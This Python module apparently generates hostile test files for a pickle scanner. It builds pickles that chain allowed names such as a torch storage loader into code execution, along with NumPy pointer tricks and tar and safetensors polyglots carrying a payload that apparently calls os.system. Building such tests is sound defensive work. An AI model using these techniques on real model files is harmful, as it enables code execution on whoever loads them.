"""Attacks on lists of allowed names: allowed names alone, put together so that they do harm."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from pickles.recipes import arrays, torch
from pickles.recipes.archive import tarred
from pickles.recipes.case import DANGEROUS, MALFORMED, UNKNOWN, Case, hostile
from pickles.recipes.ops import (
    BUILD,
    PAYLOAD,
    Code,
    build,
    call,
    integer,
    name,
    new,
    pickle,
    raw_bytes,
    tuple_of,
)

EVIL = torch.legacy(PAYLOAD, {})
LOADER = name("torch.storage", "_load_from_bytes")
NAMESPACE = new(name("argparse", "Namespace"))
ORDERED = call(name("collections", "OrderedDict"))
EMPTY_ARRAY = call(
    name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b"
)
SYSTEM = ("os.system",)


def _case(label: str, sentence: str, body: object, *verdicts: str, **more: tuple[str, ...]) -> Case:
    return hostile(
        f"gadgets/{label}.pkl",
        sentence,
        pickle(body, 5),
        *(verdicts or (UNKNOWN, DANGEROUS)),
        **more,  # type: ignore[arg-type]
    )


def _attributes() -> Iterator[Case]:
    """Loading calls methods by their names: an attribute of the instance is as good as a method."""
    for kind, instance in (("namespace", NAMESPACE), ("ordered", ORDERED)):
        yield _case(
            f"{kind}-setstate",
            "The attribute `__setstate__` is a loader, and the next BUILD calls it with bytes.",
            Code(build(instance, {"__setstate__": LOADER}) + raw_bytes(EVIL) + BUILD),
        )
        for attribute, tail in (
            ("append", raw_bytes(EVIL) + b"a"),
            ("extend", b"(" + raw_bytes(EVIL) + b"e"),
            ("add", b"(" + raw_bytes(EVIL) + b"\x90"),
        ):
            yield _case(
                f"{kind}-{attribute}",
                f"The attribute `{attribute}` is a loader, and an opcode calls it with bytes.",
                Code(build(instance, {attribute: LOADER}) + tail),
            )
    yield _case(
        "slots-setstate",
        "The same by a state of slots, which are set one by one.",
        Code(build(NAMESPACE, tuple_of(None, {"__setstate__": LOADER})) + raw_bytes(EVIL) + BUILD),
    )
    yield _case(
        "class-changed",
        "A state of slots changes the class of an instance.",
        build(ORDERED, tuple_of(None, {"__class__": name("argparse", "Namespace")})),
    )


def _bytes() -> Iterator[Case]:
    """Bytes for a loader that come about only while loading."""
    start = Code(b"\x96" + struct.pack("<Q", 2) + b"N.")
    rest = b"".join(integer(byte) for byte in EVIL)
    yield _case(
        "bytes-appended",
        "A bytearray that reads as a harmless pickle, until bytes are appended to it.",
        call(LOADER, Code(start + b"(" + rest + b"e")),
    )
    yield _case(
        "bytes-set",
        "A bytearray whose bytes are set one by one.",
        call(LOADER, Code(start + integer(0) + integer(99) + b"s")),
    )
    yield _case(
        "bytes-of-list",
        "Bytes that are made of a list of numbers.",
        call(LOADER, call(name("builtins", "bytes"), list(EVIL))),
    )
    yield _case(
        "encode-ignore",
        "Letters that `_codecs.encode` leaves out when it is told to ignore errors.",
        call(LOADER, call(name("_codecs", "encode"), "\u20acN.", "latin1", "ignore")),
    )
    yield _case(
        "encode-beyond",
        "A text that stands for no bytes.",
        call(LOADER, call(name("_codecs", "encode"), "\u20ac", "latin1")),
        UNKNOWN,
        MALFORMED,
    )


def _callables() -> Iterator[Case]:
    """Other ways to call an allowed function."""
    yield _case(
        "loader-from_type",
        "`_rebuild_from_type_v2` calls the loader.",
        call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            LOADER,
            name("torch", "Tensor"),
            (EVIL,),
            {},
        ),
    )
    yield _case(
        "loader-obj",
        "OBJ calls the loader.",
        Code(b"(" + LOADER + raw_bytes(EVIL) + b"o"),
        DANGEROUS,
        mentions=SYSTEM,
    )
    yield hostile(
        "gadgets/loader-inst.pkl",
        "INST calls the loader.",
        b"(" + raw_bytes(EVIL) + b"itorch.storage\n_load_from_bytes\n.",
        mentions=SYSTEM,
    )
    yield _case(
        "record-called",
        "A record without effect, but its `__init__` runs where it is called.",
        call(name("transformers.training_args", "TrainingArguments"), "/tmp/x"),  # noqa: S108
    )
    yield _case(
        "reconstruct-class",
        "NumPy's `_reconstruct` of another class.",
        call(name("numpy.core.multiarray", "_reconstruct"), name("some.package", "A"), (0,), b"b"),
    )
    yield _case(
        "array-wrapper-file",
        "joblib's wrapper for an array in a file: it opens what it is told.",
        build(
            new(name("joblib.numpy_pickle_compat", "NDArrayWrapper")),
            {"filename": "/dev/null", "subclass": name("numpy", "ndarray")},
        ),
    )


def _pointers() -> Iterator[Case]:
    """Bytes that NumPy is made to take for pointers."""
    made = call(name("numpy", "dtype"), "O8", False, True)
    lying = build(made, tuple_of(3, "|", None, None, None, -1, -1, 0))
    yield _case(
        "dtype-flags",
        "A dtype of objects whose flags deny it: raw bytes would be taken for pointers.",
        build(EMPTY_ARRAY, tuple_of(1, (1,), lying, False, b"A" * 8)),
    )
    made = call(name("numpy", "dtype"), "V8", False, True)
    field = {"a": tuple_of(arrays.dtype("O8"), 0)}
    lying = build(made, tuple_of(3, "|", None, ("a",), field, 8, 1, 0))
    yield _case(
        "dtype-field",
        "The same in a field of a structured type.",
        build(EMPTY_ARRAY, tuple_of(1, (1,), lying, False, b"A" * 8)),
    )


def _named_tar(first: bytes, *members: tuple[str, bytes]) -> bytes:
    """A tar archive whose first member has bytes at will for a name."""
    record = bytearray(tarred(("x" * len(first), b""))[:512])
    record[: len(first)] = first
    record[148:156] = b" " * 8
    record[148:156] = b"%06o\0 " % sum(record)
    return bytes(record) + tarred(*members)


def _polyglot() -> bytes:
    """A safetensors file that is a pickle too: SHORT_BINSTRING leaps from text to text."""
    # The header's length reads as BINUNICODE of 64 bytes.
    size = 0x58 | 64 << 8
    data = b"0" + PAYLOAD + b"."
    start = b'{"__metadata__":{"k":"'
    end = b'"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(data), len(data))
    text = bytearray(b"a" * (size - len(start) - len(end)))
    at, stop = 5 + 64, 8 + size
    while at < stop:
        left = stop - at - 2
        # The last leap must begin within the text, and lead to the first byte of the data.
        leap = left if left <= 126 else min(126, left - 102)
        text[at - 8 - len(start)] = ord("U")
        text[at - 7 - len(start)] = leap
        at += 2 + leap
    return struct.pack("<Q", size) + start + bytes(text) + end + data


def _polyglots() -> Iterator[Case]:
    """Files that are two things at once."""
    harmless = pickle({})
    for label, first, sentence in (
        ("payload", pickle(PAYLOAD), "The first member's name is a pickle with the payload."),
        ("cut", pickle(PAYLOAD)[:-1] + b"0\xff", "The same, without STOP."),
    ):
        yield hostile(
            f"gadgets/tar-name-{label}.tar",
            f"{sentence} Loaders of pickles see that.",
            _named_tar(first, ("pickle", harmless)),
            mentions=SYSTEM,
        )
    yield hostile(
        "gadgets/tar-name-harmless.tar",
        "The first member's name is a harmless pickle, and the archive holds the payload.",
        _named_tar(b"}.", ("pickle", pickle(PAYLOAD)), ("storages", pickle(0) + pickle([]))),
        mentions=SYSTEM,
    )
    yield hostile(
        "gadgets/polyglot.safetensors",
        "A valid safetensors file that is a pickle too, with the payload.",
        _polyglot(),
        mentions=SYSTEM,
    )
    yield hostile(
        "gadgets/joblib-zf.joblib",
        "What joblib wrote before 0.10: `ZF`, a length, and a zlib stream.",
        b"ZF" + b"0x21".ljust(19) + b"x\x9c" + bytes(40),
        MALFORMED,
    )


def cases() -> Iterator[Case]:
    """Every attack on a list of allowed names."""
    yield from _attributes()
    yield from _bytes()
    yield from _callables()
    yield from _pointers()
    yield from _polyglots()
